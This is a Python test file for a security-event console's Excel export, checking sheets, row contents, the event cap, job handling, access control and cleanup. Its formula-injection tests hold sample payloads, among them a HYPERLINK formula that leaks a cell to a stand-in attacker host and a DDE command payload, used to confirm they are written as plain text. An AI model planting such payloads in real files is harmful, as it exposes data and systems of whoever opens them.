"""Excel export of the Security Event Handling list: the workbook (sheets,
rows, formula neutralisation), the 1,000-event cap, the job's claim,
progress, download, expiry and cleanup, and who may see a job."""

import io
import os
import uuid
import zipfile
from datetime import timedelta

import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.http import QueryDict
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from kombu.exceptions import OperationalError as BrokerError
from openpyxl import load_workbook

from alerts.models import AlertEntity, AlertSource, Entity, EntityRole, EntityType
from events import export, tasks
from events.forms import EventFilterForm
from events.models import EventAlert, EventStatus, ExportJob, ExportStatus, SecurityEvent
from secops import spreadsheets
from secops.celery import app as celery_app
from secops.enums import RegionGroup, RiskLevel, View
from secops.scope import Scope
from tests import factories

pytestmark = pytest.mark.usefixtures("fast_password_hashing")

INCIDENT_HEADERS = [
    "Event ID",
    "Event Name",
    "Risk Level",
    "Status",
    "Account",
    "Account ID",
    "Region",
    "First Occurred (UTC)",
    "Last Occurred (UTC)",
    "Alerts",
    "Affected Assets",
    "Alert Types",
    "Data Sources",
    "Aggregation Rule",
    "Grouped By",
    "Continues Event",
    "Description",
]
ASSET_HEADERS = [
    "Event ID",
    "Event Name",
    "Asset Name",
    "Instance ID",
    "Asset UUID",
    "Public IP",
    "Private IP",
    "Operating System",
    "Cloud Region",
    "Account ID",
]
ENTITY_HEADERS = [
    "Event ID",
    "Event Name",
    "Entity Type",
    "Entity",
    "Role",
    "Malicious",
    "Alerts",
    "First Seen (UTC)",
    "Last Seen (UTC)",
    "Attributes",
]
# What a spreadsheet would run as a formula, or hide a formula behind.
FORMULA_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+1",
    "-1+1",
    "@SUM(1)",
    "\tx",
    "\rx",
]


@pytest.fixture(autouse=True)
def _media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.TIME_ZONE = "UTC"


@pytest.fixture
def eager_tasks(monkeypatch):
    """Run queued tasks in the caller, as the embedded default does, even where
    REDIS_URL points the suite at a broker that no worker here reads."""
    monkeypatch.setitem(celery_app.conf, "task_always_eager", True)


def current_view(tenancy, account=None) -> Scope:
    """Alice's default scope: the Current Account View of account A, in China."""
    account = account or tenancy.account_a
    return Scope(
        organisation_id=tenancy.org.id,
        view=View.CURRENT,
        account_id=account.id,
        account_ids=frozenset({account.id}),
        region=account.home_region,
    )


def filters(**query) -> dict:
    data = QueryDict(mutable=True)
    for name, value in query.items():
        data.setlist(name, value if isinstance(value, list) else [value])
    form = EventFilterForm(data)
    assert form.is_valid(), form.errors
    return form.cleaned_data


def exported_workbook(job: ExportJob, *, rich: bool = False):
    job.refresh_from_db()
    assert job.status == ExportStatus.DONE, job.error
    with default_storage.open(job.file_path, "rb") as handle:
        content = handle.read()
    return load_workbook(io.BytesIO(content), rich_text=rich)


def export_of(tenancy, scope=None, **query):
    job = export.start_export(
        owner=tenancy.alice, scope=scope or current_view(tenancy), filters=filters(**query)
    )
    assert export.run_export_job(job.id)
    return exported_workbook(job)


def rows(sheet) -> list[list]:
    return [list(row) for row in sheet.iter_rows(min_row=2, values_only=True)]


def column(sheet, header: str) -> list:
    headers = [cell.value for cell in sheet[1]]
    index = headers.index(header)
    return [row[index] for row in sheet.iter_rows(min_row=2, values_only=True)]


def link_entity(event, alert, entity_type, value, role=EntityRole.ATTACKER, **fields):
    # Whole seconds: Excel keeps times to the millisecond.
    now = timezone.now().replace(microsecond=0)
    entity, _ = Entity.objects.get_or_create(
        account=alert.account,
        type=entity_type,
        digest=Entity.digest_for(entity_type, value),
        defaults={"value": value, "first_seen_at": now, "last_seen_at": now, **fields},
    )
    AlertEntity.objects.get_or_create(alert=alert, entity=entity, role=role)
    EventAlert.objects.get_or_create(event=event, alert=alert)
    return entity


def many_events(account, count: int):
    rule = factories.make_rule()
    now = timezone.now()
    SecurityEvent.objects.bulk_create(
        SecurityEvent(
            account=account,
            region=account.home_region,
            rule=rule,
            group_key=uuid.uuid4().hex,
            name=f"Brute force {n}",
            risk=RiskLevel.MEDIUM,
            status=EventStatus.HANDLED,
            first_occurred_at=now,
            last_occurred_at=now,
            alert_count=1,
        )
        for n in range(count)
    )


# --- the workbook ---------------------------------------------------------------


def test_it_writes_the_incident_asset_and_entity_sheets_with_their_headers(tenancy):
    factories.make_event(tenancy.account_a)

    workbook = export_of(tenancy)

    assert workbook.sheetnames == ["Incident", "Asset", "Entity"]
    assert [cell.value for cell in workbook["Incident"][1]] == INCIDENT_HEADERS
    assert [cell.value for cell in workbook["Asset"][1]] == ASSET_HEADERS
    assert [cell.value for cell in workbook["Entity"][1]] == ENTITY_HEADERS


def test_it_writes_one_incident_row_per_matching_event(tenancy):
    rule = factories.make_rule(name="Webshell per host")
    occurred = timezone.now().replace(microsecond=0) - timedelta(hours=2)
    webshell = factories.make_event(
        tenancy.account_a,
        rule=rule,
        name="Webshell on web-01",
        description="A webshell was written.",
        group_values={"fields": {"asset": "host-web-01"}, "window_seconds": 86_400},
        first_occurred_at=occurred,
        last_occurred_at=occurred + timedelta(minutes=5),
        alert_count=3,
    )
    mining = factories.make_event(tenancy.account_a, name="Mining on db-01", risk=RiskLevel.HIGH)
    factories.make_event(tenancy.account_a, name="Low noise", risk=RiskLevel.LOW)
    factories.make_event(tenancy.account_b, name="Account B's event", risk=RiskLevel.HIGH)
    factories.make_event(tenancy.account_x, name="Another tenant's event", risk=RiskLevel.HIGH)
    webshell.affected_assets.add(factories.make_asset(tenancy.account_a))

    incident = export_of(tenancy, risk=str(RiskLevel.HIGH))["Incident"]

    assert column(incident, "Event ID") == [mining.pk, webshell.pk]
    assert rows(incident)[1] == [
        webshell.pk,
        "Webshell on web-01",
        "High",
        "Unhandled",
        "Acme Prod",
        "1111111111111111",
        "China",
        occurred.replace(tzinfo=None),
        (occurred + timedelta(minutes=5)).replace(tzinfo=None),
        3,
        1,
        None,
        None,
        "Webshell per host",
        "same host host-web-01 within 24 h",
        None,
        "A webshell was written.",
    ]


def test_it_names_the_alert_types_and_data_sources_of_each_event(tenancy):
    account = tenancy.account_a
    event = factories.make_event(account, name="Mixed")
    for source, alert_type in [
        (AlertSource.CLOUD_FIREWALL, "abnormal_network"),
        (AlertSource.SECURITY_CENTER, "abnormal_network"),
        (AlertSource.WAF, "=HYPERLINK(1)"),
    ]:
        EventAlert.objects.create(
            event=event, alert=factories.make_alert(account, source=source, type=alert_type)
        )

    incident = export_of(tenancy)["Incident"]

    # A custom type stays as sent, neutralised like any text of the payload.
    assert column(incident, "Alert Types") == ["'=HYPERLINK(1), Abnormal network connection"]
    assert column(incident, "Data Sources") == [
        "Cloud Firewall, Security Center, Web Application Firewall"
    ]


def test_it_writes_one_asset_row_per_affected_asset_of_each_event(tenancy):
    first = factories.make_event(tenancy.account_a, name="First")
    second = factories.make_event(tenancy.account_a, name="Second")
    factories.make_event(tenancy.account_a, name="No assets")
    web = factories.make_asset(
        tenancy.account_a,
        name="web-01",
        instance_id="i-web01",
        uuid="host-web-01",
        public_ip="198.51.100.10",
        private_ip="10.0.0.10",
        os="Ubuntu 22.04",
        cloud_region="cn-hangzhou",
    )
    database = factories.make_asset(tenancy.account_a, name="db-01", public_ip=None)
    first.affected_assets.add(web, database)
    second.affected_assets.add(web)

    asset = export_of(tenancy, sort="last")["Asset"]

    assert [(row[0], row[2]) for row in rows(asset)] == [
        (first.pk, "db-01"),
        (first.pk, "web-01"),
        (second.pk, "web-01"),
    ]
    assert rows(asset)[1] == [
        first.pk,
        "First",
        "web-01",
        "i-web01",
        "host-web-01",
        "198.51.100.10",
        "10.0.0.10",
        "Ubuntu 22.04",
        "cn-hangzhou",
        "1111111111111111",
    ]
    assert rows(asset)[0][5] is None  # no public IP: an empty cell


def test_it_writes_one_entity_row_per_entity_of_each_event(tenancy):
    account = tenancy.account_a
    first = factories.make_event(account, name="First")
    second = factories.make_event(account, name="Second")
    alert_1, alert_2, alert_3 = (factories.make_alert(account) for _ in range(3))
    attacker = link_entity(first, alert_1, EntityType.IP, "203.0.113.7", malicious=True)
    link_entity(first, alert_2, EntityType.IP, "203.0.113.7")
    link_entity(first, alert_2, EntityType.IP, "203.0.113.7", role=EntityRole.RELATED)
    link_entity(
        first,
        alert_2,
        EntityType.FILE,
        "/var/www/shell.php",
        role=EntityRole.VICTIM,
        attributes={"sha256": "ab" * 32},
    )
    link_entity(second, alert_3, EntityType.IP, "203.0.113.7")

    entity = export_of(tenancy, sort="last")["Entity"]

    assert [(row[0], row[2], row[3], row[4], row[5], row[6]) for row in rows(entity)] == [
        (first.pk, "IP address", "203.0.113.7", "Attacker, Related", "Yes", 2),
        (first.pk, "File", "/var/www/shell.php", "Victim", "No", 1),
        (second.pk, "IP address", "203.0.113.7", "Attacker", "Yes", 1),
    ]
    assert rows(entity)[0][7] == attacker.first_seen_at.replace(tzinfo=None)
    assert rows(entity)[1][9] == '{"sha256": "' + "ab" * 32 + '"}'


# --- formula injection ----------------------------------------------------------


@pytest.mark.parametrize("payload", FORMULA_PAYLOADS, ids=repr)
def test_it_writes_formula_like_values_as_literal_text(tenancy, payload):
    event = factories.make_event(tenancy.account_a, name=payload, description=payload)
    alert = factories.make_alert(tenancy.account_a)
    link_entity(event, alert, EntityType.PAYLOAD, payload)
    event.affected_assets.add(factories.make_asset(tenancy.account_a, name=payload, os=payload))
    # XML reads a carriage return as a line feed; the quote in front is what counts.
    shown = "'" + payload.replace("\r", "\n")

    workbook = export_of(tenancy)

    cells = [
        workbook["Incident"]["B2"],
        workbook["Incident"]["Q2"],
        workbook["Asset"]["C2"],
        workbook["Asset"]["H2"],
        workbook["Entity"]["D2"],
    ]
    assert [cell.value for cell in cells] == [shown] * 5
    assert {cell.data_type for cell in cells} == {"s"}


def test_it_writes_no_formula_anywhere_in_the_file(tenancy):
    for payload in FORMULA_PAYLOADS:
        event = factories.make_event(tenancy.account_a, name=payload)
        link_entity(event, factories.make_alert(tenancy.account_a), EntityType.URL, payload)
    job = export.start_export(owner=tenancy.alice, scope=current_view(tenancy), filters=filters())
    export.run_export_job(job.id)
    job.refresh_from_db()

    with default_storage.open(job.file_path, "rb") as handle, zipfile.ZipFile(handle) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        xml = "".join(archive.read(name).decode() for name in sheets)

    assert len(sheets) == 3
    assert "<f>" not in xml
    assert "HYPERLINK" in xml


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("web\x00-01\x07\x1b", "web-01"),
        # A control character must not hide the formula from the check.
        ("\x01=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        # Excel decodes _xHHHH_ in text; the escaped underscore keeps it literal.
        ("_x003D_1+1", "_x005F_x003D_1+1"),
        ("line one\nline two", "line one\nline two"),
        ("plain text", "plain text"),
    ],
)
def test_it_keeps_only_what_excel_can_store_and_show_as_written(value, written):
    assert export.excel_text(value) == written


def test_it_cuts_text_longer_than_a_cell_with_a_visible_note():
    text = export.excel_text("A" * 40_000)

    limit = spreadsheets.EXCEL_MAX_CELL_CHARACTERS
    assert limit - 10 < len(text) <= limit
    assert text.endswith(f"… [{40_000 - text.index('…')} more characters not exported]")


# --- the 1,000-event cap --------------------------------------------------------


def test_it_exports_up_to_1000_events_in_one_file(tenancy):
    many_events(tenancy.account_a, 1_000)

    incident = export_of(tenancy)["Incident"]

    assert incident.max_row == 1 + 1_000
    assert len(set(column(incident, "Event ID"))) == 1_000


def test_it_refuses_more_than_1000_events_naming_the_count(tenancy):
    many_events(tenancy.account_a, 1_001)

    with pytest.raises(export.ExportRefused) as refusal:
        export.start_export(owner=tenancy.alice, scope=current_view(tenancy), filters=filters())

    assert str(refusal.value).startswith("1,001 events match these filters")
    assert "at most 1,000" in str(refusal.value)
    assert "Narrow the filters" in str(refusal.value)
    assert not ExportJob.objects.exists()


def test_it_fails_a_job_when_more_than_1000_events_match_by_the_time_it_runs(tenancy):
    many_events(tenancy.account_a, 1_000)
    job = export.start_export(owner=tenancy.alice, scope=current_view(tenancy), filters=filters())
    many_events(tenancy.account_a, 2)

    export.run_export_job(job.id)

    job.refresh_from_db()
    assert job.status == ExportStatus.FAILED
    assert job.error.startswith("1,002 events match these filters")
    assert job.file_path == ""


def test_it_refuses_an_export_of_nothing(tenancy):
    with pytest.raises(export.ExportRefused, match="No security events match"):
        export.start_export(owner=tenancy.alice, scope=current_view(tenancy), filters=filters())


# --- the job: claim, progress, scope --------------------------------------------


def test_it_runs_a_job_once_however_often_the_task_is_delivered(tenancy):
    factories.make_event(tenancy.account_a)
    job = export.start_export(owner=tenancy.alice, scope=current_view(tenancy), filters=filters())

    first_run = tasks.export_events(job.id)
    job.refresh_from_db()
    done = (job.status, job.file_path, job.finished_at)
    second_run = tasks.export_events(job.id)

    job.refresh_from_db()
    assert (first_run, second_run) == (True, False)
    assert (job.status, job.file_path, job.finished_at) == done
    assert default_storage.listdir(export.EXPORT_DIRECTORY)[1] == [job.file_path.split("/")[-1]]


def test_it_leaves_a_job_another_worker_claimed_alone(tenancy):
    factories.make_event(tenancy.account_a)
    job = export.start_export(owner=tenancy.alice, scope=current_view(tenancy), filters=filters())
    assert export.claim_export_job(job.id)

    assert tasks.export_events(job.id) is False

    job.refresh_from_db()
    assert (job.status, job.file_path, job.progress) == (ExportStatus.RUNNING, "", 0)


def test_it_reports_progress_as_it_goes(tenancy, monkeypatch):
    many_events(tenancy.account_a, 250)
    job = export.start_export(owner=tenancy.alice, scope=current_view(tenancy), filters=filters())
    seen = []
    record = export._report_progress
    monkeypatch.setattr(
        export,
        "_report_progress",
        lambda job_id, percent: seen.append(percent) or record(job_id, percent),
    )

    export.run_export_job(job.id)

    job.refresh_from_db()
    assert seen == sorted(seen) and len(seen) == 3 and seen[-1] < 100
    assert (job.status, job.progress, job.row_count) == (ExportStatus.DONE, 100, 250)


def test_it_exports_every_managed_account_in_the_global_account_view(tenancy):
    in_a = factories.make_event(tenancy.account_a, region=RegionGroup.CHINA)
    in_b = factories.make_event(tenancy.account_b, region=RegionGroup.CHINA)
    factories.make_event(tenancy.account_b, region=RegionGroup.OUTSIDE_CHINA)
    factories.make_event(tenancy.account_c, region=RegionGroup.CHINA)  # not managed
    factories.make_event(tenancy.account_x, region=RegionGroup.CHINA)
    scope = Scope(
        organisation_id=tenancy.org.id,
        view=View.GLOBAL,
        account_ids=frozenset({tenancy.account_a.id, tenancy.account_b.id}),
        region=RegionGroup.CHINA,
    )

    incident = export_of(tenancy, scope)["Incident"]

    assert sorted(column(incident, "Event ID")) == sorted([in_a.pk, in_b.pk])


# --- the views ------------------------------------------------------------------

HTMX = {"HTTP_HX_REQUEST": "true"}


@pytest.fixture
def alice(tenancy):
    return tenancy.client_for(tenancy.alice)


@pytest.fixture
def finished_job(tenancy):
    factories.make_event(tenancy.account_a, name="Webshell on web-01")
    job = export.start_export(owner=tenancy.alice, scope=current_view(tenancy), filters=filters())
    export.run_export_job(job.id)
    job.refresh_from_db()
    return job


def status_url(job):
    return reverse("events:export_status", args=[job.id])


def download_url(job):
    return reverse("events:export_download", args=[job.id])


@pytest.mark.usefixtures("eager_tasks")
def test_it_starts_an_export_of_the_posted_filters_and_offers_the_download(
    tenancy, alice, django_capture_on_commit_callbacks
):
    high = factories.make_event(tenancy.account_a, risk=RiskLevel.HIGH)
    factories.make_event(tenancy.account_a, risk=RiskLevel.LOW)

    # The test's transaction never commits: the task runs when the block ends.
    with django_capture_on_commit_callbacks(execute=True):
        started = alice.post(
            reverse("events:export_start"), {"occurred": "7d", "risk": ["3"]}, **HTMX
        )
    job = ExportJob.objects.get()
    response = alice.get(status_url(job), **HTMX)

    assert started.status_code == 200
    assert 'data-testid="export-progress"' in started.content.decode()
    assert response.status_code == 200
    assert (job.owner, job.status, job.filters["risk"]) == (tenancy.alice, ExportStatus.DONE, [3])
    assert (job.account_ids, job.region) == ([tenancy.account_a.id], RegionGroup.CHINA)
    assert timedelta(hours=23, minutes=59) < job.expires_at - job.created_at <= timedelta(days=1)
    assert f'href="{download_url(job)}"' in response.content.decode()
    assert "<html" not in response.content.decode()
    assert column(exported_workbook(job)["Incident"], "Event ID") == [high.pk]


def test_it_reads_the_query_string_of_a_plain_form_post(tenancy, alice):
    factories.make_event(tenancy.account_a, risk=RiskLevel.LOW)

    response = alice.post(reverse("events:export_start"), {"query": "occurred=30d&risk=1"})

    job = ExportJob.objects.get()
    assert response.status_code == 302
    assert response["Location"] == status_url(job)
    assert (job.filters["risk"], job.status) == ([1], ExportStatus.PENDING)
    page = alice.get(status_url(job))
    assert "<html" in page.content.decode()
    assert 'data-testid="export-progress"' in page.content.decode()


def test_it_tells_the_user_to_narrow_the_filters_beyond_1000_events(tenancy, alice):
    many_events(tenancy.account_a, 1_001)

    response = alice.post(reverse("events:export_start"), {"occurred": "7d"}, **HTMX)

    assert response.status_code == 200
    assert "1,001 events match these filters" in response.content.decode()
    assert not ExportJob.objects.exists()


def test_it_refuses_invalid_filters(tenancy, alice):
    response = alice.post(reverse("events:export_start"), {"occurred": "custom"}, **HTMX)

    assert "Correct the filters before exporting." in response.content.decode()
    assert not ExportJob.objects.exists()


def test_it_requires_a_csrf_token_and_a_post_to_start(tenancy):
    factories.make_event(tenancy.account_a)
    client = Client(enforce_csrf_checks=True)
    client.force_login(tenancy.alice)

    assert client.post(reverse("events:export_start"), {"occurred": "7d"}).status_code == 403
    assert client.get(reverse("events:export_start")).status_code == 405
    assert not ExportJob.objects.exists()


def test_it_polls_a_progress_bar_until_the_file_is_ready(tenancy, alice, finished_job):
    ExportJob.objects.filter(id=finished_job.id).update(status=ExportStatus.RUNNING, progress=40)

    running = alice.get(status_url(finished_job), **HTMX).content.decode()
    ExportJob.objects.filter(id=finished_job.id).update(status=ExportStatus.DONE, progress=100)
    done = alice.get(status_url(finished_job), **HTMX).content.decode()

    assert '<progress max="100" value="40"' in running
    assert 'hx-trigger="every 1s"' in running
    assert "Download" not in running
    assert 'hx-trigger="every 1s"' not in done
    assert f'href="{download_url(finished_job)}"' in done


def test_it_shows_why_an_export_failed(tenancy, alice, finished_job):
    ExportJob.objects.filter(id=finished_job.id).update(
        status=ExportStatus.FAILED, error="The export failed unexpectedly. Start it again."
    )

    page = alice.get(status_url(finished_job), **HTMX).content.decode()

    assert "The export failed unexpectedly. Start it again." in page
    assert "every 1s" not in page


def test_it_downloads_the_file_as_an_xlsx_attachment(alice, finished_job):
    response = alice.get(download_url(finished_job))

    assert response.status_code == 200
    assert response["Content-Type"] == export.XLSX_CONTENT_TYPE
    assert response["Content-Disposition"].startswith('attachment; filename="security-events-')
    assert response["Content-Disposition"].endswith('.xlsx"')
    assert "no-cache" in response["Cache-Control"]
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert column(workbook["Incident"], "Event Name") == ["Webshell on web-01"]


def test_it_answers_410_for_an_expired_export(alice, finished_job):
    ExportJob.objects.filter(id=finished_job.id).update(
        expires_at=timezone.now() - timedelta(minutes=1)
    )

    response = alice.get(download_url(finished_job))
    status = alice.get(status_url(finished_job), **HTMX).content.decode()

    assert response.status_code == 410
    assert "This export expired on" in response.content.decode()
    assert "Export the events again" in response.content.decode()
    assert "This export expired on" in status
    assert "Download" not in status


def test_it_answers_404_for_a_download_that_is_not_ready(alice, finished_job):
    ExportJob.objects.filter(id=finished_job.id).update(status=ExportStatus.RUNNING)

    assert alice.get(download_url(finished_job)).status_code == 404


# --- tenancy --------------------------------------------------------------------


@pytest.mark.parametrize("url", [status_url, download_url], ids=["status", "download"])
def test_it_hides_a_job_from_another_tenant(tenancy, finished_job, url):
    charlie = tenancy.client_for(tenancy.charlie)

    assert charlie.get(url(finished_job)).status_code == 404
    assert tenancy.client_for(tenancy.alice).get(url(finished_job)).status_code == 200


@pytest.mark.parametrize("url", [status_url, download_url], ids=["status", "download"])
def test_it_hides_a_job_from_a_colleague_who_did_not_start_it(tenancy, finished_job, url):
    bob = tenancy.client_for(tenancy.bob)

    assert bob.get(url(finished_job)).status_code == 404


@pytest.mark.parametrize("url", [status_url, download_url], ids=["status", "download"])
def test_it_hides_a_job_once_the_owners_scope_no_longer_covers_it(alice, finished_job, url):
    alice.post(reverse("change_scope"), {"region": RegionGroup.OUTSIDE_CHINA})

    assert alice.get(url(finished_job)).status_code == 404


def test_it_hides_a_job_of_the_global_view_from_the_current_account_view(tenancy, alice):
    factories.make_event(tenancy.account_a)
    whole_organisation = Scope(
        organisation_id=tenancy.org.id,
        view=View.GLOBAL,
        account_ids=frozenset({tenancy.account_a.id, tenancy.account_b.id}),
        region=RegionGroup.CHINA,
    )
    job = export.start_export(owner=tenancy.alice, scope=whole_organisation, filters=filters())

    assert alice.get(status_url(job)).status_code == 404
    alice.post(reverse("change_scope"), {"view": View.GLOBAL})
    assert alice.get(status_url(job)).status_code == 200


# --- cleanup --------------------------------------------------------------------


def test_it_removes_expired_files_and_still_answers_410(alice, finished_job):
    path = finished_job.file_path
    ExportJob.objects.filter(id=finished_job.id).update(
        expires_at=timezone.now() - timedelta(minutes=1)
    )

    result = tasks.cleanup_exports()

    finished_job.refresh_from_db()
    assert result == {"stalled": 0, "files": 1, "jobs": 0}
    assert not default_storage.exists(path)
    assert finished_job.file_path == ""
    assert alice.get(download_url(finished_job)).status_code == 410


def test_it_keeps_files_until_they_expire(finished_job):
    result = export.cleanup_exports(now=finished_job.expires_at - timedelta(seconds=1))

    assert (result.files, result.jobs) == (0, 0)
    assert default_storage.exists(finished_job.file_path)


def test_it_deletes_jobs_a_week_after_they_expired(finished_job):
    week_later = finished_job.expires_at + export.EXPIRED_JOB_RETENTION

    kept = export.cleanup_exports(now=week_later - timedelta(seconds=1))
    deleted = export.cleanup_exports(now=week_later)

    assert (kept.jobs, deleted.jobs) == (0, 1)
    assert not ExportJob.objects.exists()


def test_it_fails_jobs_whose_worker_was_lost(tenancy, finished_job):
    now = timezone.now()
    late = now - export.STALLED_AFTER - timedelta(seconds=1)
    recent = now - timedelta(minutes=1)
    factories.make_event(tenancy.account_a)
    jobs = [
        export.start_export(owner=tenancy.alice, scope=current_view(tenancy), filters=filters())
        for _ in range(3)
    ]
    ExportJob.objects.filter(id=jobs[0].id).update(created_at=late)
    ExportJob.objects.filter(id=jobs[1].id).update(status=ExportStatus.RUNNING, started_at=late)
    ExportJob.objects.filter(id=jobs[2].id).update(status=ExportStatus.RUNNING, started_at=recent)

    result = export.cleanup_exports(now=now)

    statuses = dict(ExportJob.objects.values_list("id", "status"))
    assert result.stalled == 2
    assert [statuses[job.id] for job in jobs] == ["failed", "failed", "running"]
    assert statuses[finished_job.id] == "done"
    assert "interrupted" in ExportJob.objects.get(id=jobs[0].id).error


def test_it_deletes_old_files_that_no_job_names(finished_job):
    old = default_storage.save(f"{export.EXPORT_DIRECTORY}/orphan.xlsx", ContentFile(b"x"))
    new = default_storage.save(f"{export.EXPORT_DIRECTORY}/being-written.xlsx", ContentFile(b"x"))
    two_days_ago = (timezone.now() - timedelta(days=2)).timestamp()
    for path in (old, finished_job.file_path):
        os.utime(default_storage.path(path), (two_days_ago, two_days_ago))

    result = export.cleanup_exports()

    assert result.files == 1
    assert not default_storage.exists(old)
    assert default_storage.exists(new)
    assert default_storage.exists(finished_job.file_path)


def test_it_schedules_the_cleanup(settings):
    entry = settings.CELERY_BEAT_SCHEDULE["cleanup-expired-exports"]

    assert entry["task"] == tasks.cleanup_exports.name
    assert entry["task"] in celery_app.tasks
    assert entry["schedule"] <= 3600


def test_it_marks_the_job_failed_when_the_file_cannot_be_written(tenancy, monkeypatch):
    factories.make_event(tenancy.account_a)
    job = export.start_export(owner=tenancy.alice, scope=current_view(tenancy), filters=filters())

    def full_disk(*args, **kwargs):
        raise OSError("No space left on device")

    monkeypatch.setattr(default_storage, "save", full_disk)

    assert export.run_export_job(job.id)
    job.refresh_from_db()
    assert (job.status, job.file_path) == (ExportStatus.FAILED, "")
    assert job.error == "The export failed unexpectedly. Start it again."


def test_it_fails_the_job_when_the_task_queue_is_unavailable(
    tenancy, monkeypatch, django_capture_on_commit_callbacks
):
    factories.make_event(tenancy.account_a)

    def broker_down(job_id):
        raise BrokerError("Error 111 connecting to 127.0.0.1:6379. Connection refused.")

    monkeypatch.setattr(celery_app.tasks["events.export_events"], "delay", broker_down)

    with django_capture_on_commit_callbacks(execute=True):
        job = export.start_export(
            owner=tenancy.alice, scope=current_view(tenancy), filters=filters()
        )

    job.refresh_from_db()
    assert job.status == ExportStatus.FAILED
    assert job.error == "The export could not be queued: the task queue is unavailable."


def test_it_writes_times_in_the_console_s_time_zone(tenancy, settings):
    settings.TIME_ZONE = "Asia/Shanghai"
    occurred = timezone.now().replace(microsecond=0) - timedelta(hours=1)
    factories.make_event(tenancy.account_a, first_occurred_at=occurred, last_occurred_at=occurred)

    incident = export_of(tenancy)["Incident"]

    assert incident["H1"].value == "First Occurred (Asia/Shanghai)"
    assert incident["H2"].value == (occurred + timedelta(hours=8)).replace(tzinfo=None)
    assert incident["H2"].number_format == "yyyy-mm-dd hh:mm:ss"
